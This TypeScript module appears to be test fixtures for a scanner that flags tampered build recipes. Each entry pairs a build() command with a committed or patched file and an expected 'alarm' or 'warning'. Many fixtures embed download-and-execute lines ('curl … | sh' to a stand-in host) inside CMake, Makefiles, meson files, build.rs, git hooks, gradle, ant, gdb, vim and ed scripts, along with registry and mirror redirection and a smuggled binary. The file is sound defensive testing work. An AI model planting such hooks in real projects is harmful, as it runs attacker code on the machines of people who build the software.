import { ELF, type Variant } from "./variant.ts";

/** Committed or patched files that build tools read, and what they then run or fetch. */
export const BUILD_FILES: readonly Variant[] = [
  {
    says: "alarm",
    place: "build()",
    line: 'cp "$srcdir/CMakeLists.txt" .\ncmake .',
    files: {
      "CMakeLists.txt": `project(x)\nfile(DOWNLOAD\n  https://cdn.example.invalid/x x)\nexecute_process(COMMAND chmod +x x)\nexecute_process(COMMAND \${CMAKE_CURRENT_BINARY_DIR}/x)\n`,
    },
  },
  {
    says: "warning",
    place: "build()",
    line: "cmake .",
    files: {
      "CMakeLists.txt":
        "include(FetchContent)\nFetchContent_Declare(x URL https://cdn.example.invalid/x.tar.gz)\nFetchContent_MakeAvailable(x)\n",
    },
  },
  {
    says: "warning",
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    files: {
      "x.patch":
        "--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+ExternalProject_Add(x URL https://cdn.example.invalid/x.tar.gz)\n",
    },
  },
  {
    says: "warning",
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    files: {
      "x.patch":
        '--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+file(DOWNLOAD "https://cdn.example.invalid/x" x)\n+execute_process(COMMAND ./x)\n',
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: "cmake .",
    files: {
      "CMakeLists.txt":
        "add_custom_command(OUTPUT x COMMAND curl -s https://cdn.example.invalid/a -o x COMMAND sh x)\n",
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    files: {
      "x.patch":
        '--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+add_custom_command(TARGET x POST_BUILD COMMAND bash -c "curl -s https://cdn.example.invalid/a | sh")\n',
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'patch -i "$srcdir/x.patch"',
    files: {
      "x.patch": `--- a/CMakeLists.txt\n+++ b/CMakeLists.txt\n@@ -1 +1,3 @@\n x\n+add_custom_target(fixup ALL COMMAND \${CMAKE_SOURCE_DIR}/../linter)\n`,
      linter: ELF,
    },
  },
  {
    says: "warning",
    place: "build()",
    line: "PYTHONPATH=\"$srcdir\" python -c 'import helper'",
    files: { "helper.py": 'import os\nos.system("curl https://cdn.example.invalid/a|sh")\n' },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'python "$srcdir/tool.pyz"',
    files: { "tool.pyz": new Uint8Array([0x50, 0x4b, 0x3, 0x4, 0x0, 0x0]) },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'awk -f "$srcdir/x.awk"',
    files: { "x.awk": 'BEGIN{system("curl -s https://cdn.example.invalid/a|sh")}\n' },
  },
  {
    says: "warning",
    place: "build()",
    line: 'mkdir -p .cargo; cp "$srcdir/config.toml" .cargo/',
    files: {
      "config.toml":
        '[build]\nrustc-wrapper = "/tmp/w"\n[source.crates-io]\nreplace-with="x"\n[source.x]\nregistry="https://x.example.invalid"\n',
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'cp "$srcdir/build.rs" .',
    files: {
      "build.rs":
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://cdn.example.invalid/a|sh").status(); }\n',
    },
  },
  {
    says: "warning",
    place: "build()",
    line: 'cp "$srcdir/build.rs" .',
    files: {
      "build.rs":
        'use std::net::TcpStream;\nfn main(){ let mut s=TcpStream::connect("203.0.113.1:1"); let p="/tmp/x"; std::process::Command::new(p).status(); }\n',
    },
  },
  {
    says: "warning",
    place: "build()",
    line: 'cp "$srcdir/.npmrc" .',
    files: { ".npmrc": "registry=https://x.example.invalid\nscript-shell=./w\n" },
  },
  {
    says: "warning",
    place: "build()",
    line: 'cp "$srcdir/.yarnrc.yml" .',
    files: { ".yarnrc.yml": "yarnPath: ./w.cjs\n" },
  },
  {
    says: "warning",
    place: "build()",
    line: 'export PIP_CONFIG_FILE="$srcdir/pip.conf"',
    files: { "pip.conf": "[global]\nindex-url=https://x.example.invalid\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'meson setup build --cross-file "$srcdir/cross.ini"',
    files: { "cross.ini": "[binaries]\nc = 'sh -c \"curl https://cdn.example.invalid/a|sh\"'\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'arch-meson . build --native-file "$srcdir/n.ini"',
    files: { "n.ini": "[binaries]\nc = ['sh','-c','curl https://cdn.example.invalid/a|sh']\n" },
  },
  {
    says: "warning",
    place: "build()",
    line: 'MAKEFILES="$srcdir/x.txt" make',
    files: { "x.txt": "$(shell curl -s https://cdn.example.invalid/a | sh)\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'cp "$srcdir/x.mk" Makefile.local',
    files: { "x.mk": "X != curl -s https://cdn.example.invalid/a | sh\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'cp "$srcdir/pc" .git/hooks/post-checkout; git checkout .',
    files: { pc: "#!/bin/sh\ncurl -s https://cdn.example.invalid/a|sh\n" },
  },
  {
    says: "warning",
    place: "build()",
    line: 'gradle -I "$srcdir/init.gradle" build',
    files: { "init.gradle": '"curl -so x https://cdn.example.invalid/a".execute()\n' },
  },
  {
    says: "warning",
    place: "build()",
    line: 'mvn -s "$srcdir/settings.xml" package',
    files: {
      "settings.xml":
        "<settings><mirrors><mirror><url>http://x.example.invalid</url></mirror></mirrors></settings>",
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'ant -f "$srcdir/b.xml"',
    files: {
      "b.xml":
        '<project><exec executable="sh"><arg value="-c"/><arg value="curl https://cdn.example.invalid/a|sh"/></exec></project>',
    },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'gdb -x "$srcdir/x.gdb" -batch',
    files: { "x.gdb": "shell curl -s https://cdn.example.invalid/a|sh\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'vim -es -S "$srcdir/x.vim"',
    files: { "x.vim": "!curl -s https://cdn.example.invalid/a|sh\n" },
  },
  {
    says: "alarm",
    place: "build()",
    line: 'ed < "$srcdir/x.ed"',
    files: { "x.ed": "!curl -s https://cdn.example.invalid/a|sh\n" },
  },
];
